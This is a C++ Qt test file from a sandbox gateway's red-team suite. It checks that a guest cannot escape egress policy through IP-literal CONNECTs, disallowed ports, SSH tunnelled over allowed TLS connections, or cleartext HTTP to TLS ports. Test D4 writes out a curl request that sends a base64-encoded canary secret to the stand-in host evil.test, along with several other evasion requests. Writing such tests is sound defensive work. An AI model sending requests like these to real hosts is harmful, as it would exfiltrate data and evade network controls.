// docs/redteam-cases.md class D (ports and protocols), from the guest namespace through the real
// gateway and the sandbox's nftables table. docs/redteam.md.
#include "redteamtestbase.h"

#include <QJsonDocument>
#include <QTest>

using namespace airlock::redteam;
using namespace Qt::StringLiterals;

class TestRedteamPorts : public RedteamTestBase
{
    Q_OBJECT
private Q_SLOTS:
    void D1_data();
    void D1();
    void D2_data();
    void D2();
    void D3_data();
    void D3();
    void D4_data();
    void D4();
    void D4_proxyCleartextOnlyToPort80_data();
    void D4_proxyCleartextOnlyToPort80();
};

// D1: CONNECT to an IP literal.
void TestRedteamPorts::D1_data()
{
    QTest::addColumn<QByteArray>("request");
    QTest::newRow("CONNECT 192.0.2.7:443")
        << "CONNECT 192.0.2.7:443 HTTP/1.1\r\nHost: 192.0.2.7:443\r\n\r\n"_ba;
    QTest::newRow("CONNECT [2001:db8::7]:443")
        << "CONNECT [2001:db8::7]:443 HTTP/1.1\r\nHost: [2001:db8::7]:443\r\n\r\n"_ba;
    QTest::newRow("CONNECT evil.test's address")
        << "CONNECT 198.51.100.66:443 HTTP/1.1\r\nHost: 198.51.100.66:443\r\n\r\n"_ba;
}

void TestRedteamPorts::D1()
{
    QFETCH(QByteArray, request);
    QString problem;
    const HttpResponse response = requestVia(u"proxy"_s, request, &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"ip_literal"_s}));
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"ip_literal"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

// D2: an allowed name on another port; a SYN to GW on a port that is not the gateway's.
void TestRedteamPorts::D2_data()
{
    QTest::addColumn<QString>("mode"); // proxy, tls (transparent), syn (to GW)
    QTest::addColumn<int>("port");
    for (int port : {22, 8443, 6379}) {
        QTest::addRow("CONNECT pkg.test:%d", port) << u"proxy"_s << port;
        QTest::addRow("TLS pkg.test:%d transparent", port) << u"tls"_s << port;
    }
    for (int port : {22, 80, 443, 8443})
        QTest::addRow("SYN to GW:%d", port) << u"syn"_s << port;
}

void TestRedteamPorts::D2()
{
    QFETCH(QString, mode);
    QFETCH(int, port);
    if (mode == u"syn") {
        const quint64 before = m_topo.counter(u"drop_tcp_port"_s);
        auto connection = m_topo.connect(topo::Gateway, quint16(port), 1500);
        QVERIFY2(!connection, "the guest reached a host port on GW");
        QTRY_VERIFY_WITH_TIMEOUT(m_topo.counter(u"drop_tcp_port"_s) > before, 3000);
        REDTEAM_CHECK(recordedTraffic(m_topo.hostTraps()));
        return;
    }
    if (mode == u"proxy") {
        const QByteArray authority = "pkg.test:" + QByteArray::number(port);
        QString problem;
        const HttpResponse response = requestVia(
            u"proxy"_s, "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n",
            &problem);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"port_not_allowed"_s}));
    } else {
        const QHostAddress pkg = m_topo.resolveAddress(u"pkg.test"_s);
        QVERIFY(!pkg.isNull());
        bool handshake = true;
        auto connection = openTls(pkg, "pkg.test"_ba, &handshake, quint16(port));
        QVERIFY2(connection, "the redirected connection was not accepted");
        QVERIFY2(!handshake, "TLS completed on a port the policy does not allow");
    }
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"port_not_allowed"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

// D3: not TLS inside an allowed tunnel.
void TestRedteamPorts::D3_data()
{
    QTest::addColumn<bool>("viaConnect");
    QTest::newRow("transparent to pkg.test:443") << false;
    QTest::newRow("CONNECT pkg.test:443") << true;
}

void TestRedteamPorts::D3()
{
    QFETCH(bool, viaConnect);
    std::unique_ptr<GuestConnection> connection;
    if (viaConnect) {
        connection = openProxy();
        QVERIFY2(connection, "cannot connect to the explicit proxy GW:3128");
        QVERIFY(connection->send("CONNECT pkg.test:443 HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"));
        const HttpResponse established = connection->readHead();
        QVERIFY2(established.status == 200, established.head.constData());
    } else {
        const QHostAddress pkg = m_topo.resolveAddress(u"pkg.test"_s);
        QVERIFY(!pkg.isNull());
        connection = m_topo.connect(pkg, 443);
        QVERIFY(connection);
    }
    QVERIFY(connection->send("SSH-2.0-x\r\n"));
    QByteArray answer;
    QVERIFY2(connection->closedByPeer(5000, &answer), "the gateway kept a non-TLS tunnel open");
    QVERIFY2(!answer.contains("SSH-"), answer.constData());
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"not_tls"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

// D4: plain HTTP to a denied host, with data in the query.
void TestRedteamPorts::D4_data()
{
    QTest::addColumn<QString>("client");
    QTest::addColumn<QString>("mode");
    QTest::newRow("raw, transparent port 80") << u"raw"_s << u"http:evil.test"_s;
    QTest::newRow("raw, explicit proxy") << u"raw"_s << u"proxy"_s;
    QTest::newRow("curl, transparent port 80") << u"curl"_s << u"http:evil.test"_s;
    QTest::newRow("curl -x, explicit proxy") << u"curl"_s << u"proxy"_s;
}

void TestRedteamPorts::D4()
{
    QFETCH(QString, client);
    QFETCH(QString, mode);
    const QByteArray data = "c2VjcmV0Y2FuYXJ5"; // base64 "secretcanary"
    const QString url = u"http://evil.test/log?d="_s + QString::fromLatin1(data);
    if (client == u"curl") {
        QStringList arguments {u"-w"_s, u"\n%{http_code}"_s};
        if (mode == u"proxy")
            arguments
                << u"-x"_s
                << u"http://%1:%2"_s.arg(topo::Gateway.toString()).arg(topo::ExplicitProxyPort);
        else
            arguments << u"--resolve"_s << u"evil.test:80:"_s + topo::EvilServer.toString();
        const CommandResult result = m_topo.curl(arguments << url);
        QVERIFY(result.finished);
        QVERIFY2(curlStatus(result) == 403 && result.standardOutput.contains("host_not_allowed"),
                 result.standardOutput.constData());
    } else {
        const QByteArray target = mode == u"proxy" ? url.toLatin1() : "/log?d=" + data;
        QString problem;
        const HttpResponse response =
            requestVia(mode, "GET " + target + " HTTP/1.1\r\nHost: evil.test\r\n\r\n", &problem);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"host_not_allowed"_s}));
    }
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"host_not_allowed"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
    // The query is redacted from events (docs/gateway.md, "Events").
    for (const QJsonObject &event : m_topo.gateway().eventsSinceMark())
        QVERIFY2(!QJsonDocument(event).toJson().contains(data),
                 QJsonDocument(event).toJson().constData());
}

// docs/reviews/2026-11-30-redteam-pass.md#f4: the explicit proxy sent cleartext HTTP to a TLS port
// (pkg.test:443) that the transparent path refuses. Plain HTTP goes only to port 80, whatever the
// rule's ports (docs/policy.md); other ports are reached with CONNECT and TLS. A CONNECT needs Host
// too.
void TestRedteamPorts::D4_proxyCleartextOnlyToPort80_data()
{
    QTest::addColumn<QByteArray>("request");
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("reason");
    QTest::newRow("GET http://pkg.test:443/")
        << "GET http://pkg.test:443/ HTTP/1.1\r\nHost: pkg.test:443\r\n\r\n"_ba << 403
        << u"plain_http_port"_s;
    QTest::newRow("GET http://api.test:443/ with the port only in the target")
        << "GET http://api.test:443/x HTTP/1.1\r\nHost: api.test:443\r\n\r\n"_ba << 403
        << u"plain_http_port"_s;
    QTest::newRow("CONNECT without Host")
        << "CONNECT pkg.test:443 HTTP/1.1\r\n\r\n"_ba << 400 << u"missing_host"_s;
}

void TestRedteamPorts::D4_proxyCleartextOnlyToPort80()
{
    QFETCH(QByteArray, request);
    QFETCH(int, status);
    QFETCH(QString, reason);
    QString problem;
    const HttpResponse response = requestVia(u"proxy"_s, request, &problem);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    REDTEAM_CHECK(expectDenyHttp(response, {status}, {reason}));
    REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {reason}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream()));
}

QTEST_GUILESS_MAIN(TestRedteamPorts)
#include "tst_redteam_ports.moc"
